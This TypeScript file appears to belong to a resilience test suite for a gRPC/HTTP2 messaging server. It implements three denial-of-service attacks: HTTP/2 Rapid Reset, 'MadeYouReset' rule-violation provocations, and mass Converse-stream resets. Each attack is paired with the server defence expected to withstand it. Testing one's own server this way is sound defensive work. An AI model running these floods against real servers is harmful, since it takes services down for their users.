import type { Attacker } from '../../attacker/attacker.ts';
import { callHeaders, literal } from '../../wire/hpack.ts';
import { keepHttp2 } from '../../wire/http2-connection.ts';
import {
  dataFrame,
  field,
  grpcMessage,
  headersFrame,
  resetFrame,
  windowUpdateFrame,
} from '../../wire/http2-frame.ts';
import type { Attack } from '../attack.ts';

const connections = 8;
const callsPerWrite = 50;
const windowMax = 2 ** 31 - 1;
const fullConnections = 16;
const streamsOfEach = 900;
// The streams of two rounds take some 24 KB each.
const resetStreamsPeakBytes = 500_000_000;
const search = grpcMessage(field(1, 'a*'));

/** The frames of one call that a reset ends at once: the client's, or one that the client provokes. */
type MakeCall = (stream: number, which: number) => readonly Buffer[];

const rapidReset: MakeCall = (stream) => [
  headersFrame(stream, callHeaders('/MessageService/Search')),
  dataFrame(stream, search, true),
  resetFrame(stream),
];

// Each breaks a rule of HTTP/2, so the server must reset the stream. [RFC 9113, 5.1, 6.9, 8.1.1]
const provocations: readonly ((stream: number) => readonly Buffer[])[] = [
  (stream) => [
    headersFrame(stream, callHeaders('/MessageService/Search')),
    windowUpdateFrame(stream, 0),
  ],
  (stream) => [
    headersFrame(stream, callHeaders('/MessageService/Search')),
    windowUpdateFrame(stream, windowMax),
  ],
  (stream) => [
    headersFrame(stream, callHeaders('/MessageService/Search')),
    dataFrame(stream, search, true),
    dataFrame(stream, search, true),
  ],
  (stream) => [
    headersFrame(stream, callHeaders('/MessageService/Search', literal('content-length', '1'))),
    dataFrame(stream, search, true),
  ],
];

const madeYouReset: MakeCall = (stream, which) =>
  provocations[which % provocations.length]?.(stream) ?? [];

async function resetForever(attacker: Attacker, makeCall: MakeCall): Promise<void> {
  await keepHttp2(attacker, { times: attacker.share(connections) }, async (connection, which) => {
    while (connection.isOpen && !attacker.isOver) {
      const calls = Array.from({ length: callsPerWrite }, () =>
        makeCall(connection.nextStream(), which),
      );
      await connection.write(...calls.flat());
      attacker.count('calls', callsPerWrite);
    }
    connection.reset();
  });
}

/**
 * Fills connections with Converse streams, on each of which somebody logs in, and resets them together, over and over.
 */
async function resetStreams(attacker: Attacker): Promise<void> {
  const { victims } = attacker.order;
  let [logins, full] = [0, 0];
  let allFull = Promise.withResolvers<void>();
  await keepHttp2(attacker, { times: fullConnections }, async (connection) => {
    await connection.limited();
    for (let open = 0; open < streamsOfEach && connection.isOpen && !attacker.isOver; open++) {
      await connection.callsBelow(streamsOfEach);
      const login = field(1, victims[logins++ % victims.length] ?? '');
      await connection.call('/MessageService/Converse', field(2, login), true);
    }
    const { promise, resolve } = allFull;
    if (++full === fullConnections) {
      resolve();
      full = 0;
      allFull = Promise.withResolvers();
    }
    await Promise.race([promise, attacker.over]);
    connection.reset();
  });
}

const bound =
  'calls count until the end of their turn, reset or not; a client that has not acknowledged its limit gets 16; the server decodes a few frames a turn of the next connections of its address';

/** Attacks by calls that are reset. */
export const resets: readonly Attack[] = [
  {
    name: 'rapid-reset',
    family: 'http2',
    does: 'searches that the client resets as soon as it asks',
    heldBy: bound,
    run: (attacker) => resetForever(attacker, rapidReset),
  },
  {
    name: 'made-you-reset',
    family: 'http2',
    does: 'calls with frames for which the server has to reset them',
    heldBy: 'a connection that breaks a rule is ended, or its streams are',
    run: (attacker) => resetForever(attacker, madeYouReset),
  },
  {
    name: 'reset-streams',
    family: 'http2',
    does: '16 connections with 900 Converse streams of users each, reset together, over and over',
    heldBy: 'the ends of connections, of their streams and of sessions wait for their turns',
    needs: { victims: fullConnections * streamsOfEach },
    peakBytesMax: resetStreamsPeakBytes,
    run: resetStreams,
  },
];
